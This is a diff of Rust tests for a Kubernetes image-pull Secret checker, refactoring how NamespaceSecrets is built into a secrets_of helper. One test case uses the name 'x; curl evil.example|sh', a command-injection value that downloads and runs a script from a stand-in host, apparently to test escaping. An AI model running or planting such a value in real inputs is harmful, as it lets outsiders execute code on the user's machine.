@@ -20,6 +20,14 @@ always: [debug]
 const PULL: &str = "kubernetes.io/dockerconfigjson";
 const PASSWORD: &str = "hunter2";
 
+fn secrets_of<'m>(
+    namespace: &'m str,
+    mapping: &'m Mapping,
+    needs: &'m BTreeMap<String, BTreeSet<String>>,
+) -> NamespaceSecrets<'m> {
+    NamespaceSecrets::new(Audience { mapping, namespace, labels: None }, needs, &Settled::new())
+}
+
 /// Finds of the Secret `name` in `shop`, whose Pods need it for `images`.
 fn judged(name: &str, found: Option<(&str, &str)>, images: &[&str]) -> String {
     let mapping = mapping::parse(MAPPING).unwrap();
@@ -29,7 +37,7 @@ fn judged(name: &str, found: Option<(&str, &str)>, images: &[&str]) -> String {
     } else {
         BTreeMap::from([(name.to_owned(), images)])
     };
-    let secrets = NamespaceSecrets::new("shop", &mapping, &needs);
+    let secrets = secrets_of("shop", &mapping, &needs);
     let secret = found.map(|(type_, text)| {
         let data = BTreeMap::from([(".dockerconfigjson".to_owned(), text.as_bytes().to_vec())]);
         SecretManifest::new(name.to_owned(), None, Some(type_.to_owned()), data)
@@ -102,7 +110,7 @@ fn only_what_the_rules_have_for_a_namespace_is_asked_for() {
     let mapping = mapping::parse(MAPPING).unwrap();
     let needs = BTreeMap::from([("debug".to_owned(), BTreeSet::new())]);
     let names = |namespace, needs| {
-        let names = NamespaceSecrets::new(namespace, &mapping, needs).names();
+        let names = secrets_of(namespace, &mapping, needs).names();
         names.into_iter().map(|(_, name)| name).collect::<Vec<_>>()
     };
     assert_eq!(names("shop", &needs), ["acme", "debug", "ecr"]);
@@ -114,7 +122,7 @@ fn only_what_the_rules_have_for_a_namespace_is_asked_for() {
 fn logins_in_an_annotation_are_a_note_with_a_command() {
     let mapping = mapping::parse(MAPPING).unwrap();
     let needs = BTreeMap::new();
-    let secrets = NamespaceSecrets::new("shop", &mapping, &needs);
+    let secrets = secrets_of("shop", &mapping, &needs);
     for (name, command) in [
         ("acme", ": kubectl annotate secret acme -n shop kubectl.kubernetes.io/last-applied"),
         ("x; curl evil.example|sh", "from now on\""),
